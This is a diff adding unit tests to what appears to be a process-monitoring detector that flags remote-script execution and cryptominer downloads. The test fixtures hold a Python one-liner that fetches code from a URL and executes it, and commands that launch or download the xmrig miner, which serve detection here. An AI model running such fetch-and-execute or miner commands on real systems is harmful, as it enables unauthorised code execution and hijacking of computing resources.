@@ -78,3 +78,23 @@ test('a port is a hint, a name or an address is proof', () => {
   expect(rules({ address: '203.0.113.5', port: 80 })).toEqual([]);
   expect(rules({ address: '192.0.2.1', port: 443, host: 'notsupportxmr.com' })).toEqual([]);
 });
+
+test('knows an interpreter by its versioned name, and a program behind the dynamic loader', () => {
+  const rules = (exe: string, argv: string[]) =>
+    judgeProcess({ exe, argv }, { indicators }).findings.map(({ rule }) => rule);
+  const code = 'import os, urllib.request as r; exec(r.urlopen(os.environ["U"]).read())';
+  expect(rules('/usr/local/bin/python3.11', ['python3', '-c', code])).toContain('remote-script');
+  const loader = '/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2';
+  expect(rules(loader, [loader, '--library-path', '/lib', '/tmp/xmrig', '-t', '2'])).toContain('miner-name');
+  expect(rules('/lib/ld-musl-x86_64.so.1', ['/lib/ld-musl-x86_64.so.1', '/bin/ls'])).toEqual([]);
+});
+
+test('tells a page about a miner from a miner that is fetched', () => {
+  const rules = (url: string) =>
+    judgeProcess({ exe: '/usr/bin/curl', argv: ['curl', url] }, { indicators }).findings.map(
+      ({ rule }) => rule,
+    );
+  expect(rules('https://example.com/blog/xmrig')).not.toContain('miner-download');
+  expect(rules('https://example.com/xmrig.html')).not.toContain('miner-download');
+  expect(rules('https://example.com/xmrig')).toContain('miner-download');
+});
